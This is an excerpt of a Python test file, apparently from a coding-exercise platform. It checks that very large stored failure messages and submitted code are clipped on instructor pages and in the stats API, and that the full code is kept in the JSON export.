        "exercise_version": shipped_catalog().get(GC).version,
        "status": result["status"],
        "passed": 0,
        "total": len(tests),
        "duration_ms": 1.0,
        "created_at": created,
        "code": code,
        "result": result,
    }
    with store.engine.begin() as connection:
        write_submissions(connection, [row])
    return sub_id


def test_huge_stored_messages_and_code_keep_the_pages_small(hostile: TestClient) -> None:
    store = hostile.app.state.service.store  # type: ignore[attr-defined]
    # Two messages of a million characters that differ only past the clip: one group.
    for tail in ("A", "B"):
        failed = {"name": COPIES, "status": "fail", "message": "x" * HUGE + tail, "output": ""}
        store_submit(store, "def f(): pass\n", [failed])
    store_submit(store, "", [], message="y" * HUGE)  # a failure of the whole run
    huge_code = "# " + "z" * HUGE + "\n"
    store_submit(store, huge_code, [{"name": UNSORTED, "status": "fail", "message": "short"}])

    instructor = stranger(hostile)
    instructor.cookies.set(instructor_auth.COOKIE, cookie_for(TOKEN))
    page = instructor.get(f"/instructor/exercises/{GC}")
    assert page.status_code == 200
    assert len(page.content) < PAGE_LIMIT, len(page.content)
    clipped = "x" * (stats.MESSAGE_CHARS - 1) + "…"
    assert clipped in page.text and "the JSON export has all of it" in page.text
    assert len(instructor.get("/instructor").content) < PAGE_LIMIT
    api = hostile.get(STATS, headers=BEARER)
    assert api.status_code == 200 and len(api.content) < PAGE_LIMIT
    assert api.json()["tracks"]["numpy"]["submissions"] == 4

    top = plain(stats.common_failures(store, GC, {"numpy": []}))["numpy"]
    by_test = {f["test"]: f for f in top}
    assert by_test[COPIES]["message"] == clipped and by_test[COPIES]["count"] == 2
    assert by_test[None]["message"] == "y" * (stats.MESSAGE_CHARS - 1) + "…"
    assert by_test[UNSORTED]["message"] == "short"  # short messages are left whole
    newest = plain(stats.recent_submissions(store, GC))[0]
    assert newest["code_clipped"] and len(newest["code"]) == stats.CODE_PREVIEW_CHARS
    assert newest["code"] == huge_code[: stats.CODE_PREVIEW_CHARS - 1] + "…"
    # The exports are where the whole code goes.
    exported = json.loads(hostile.get(f"{JSON_URL}?exercise={GC}", headers=BEARER).content)
    assert huge_code in {row["code"] for row in exported}
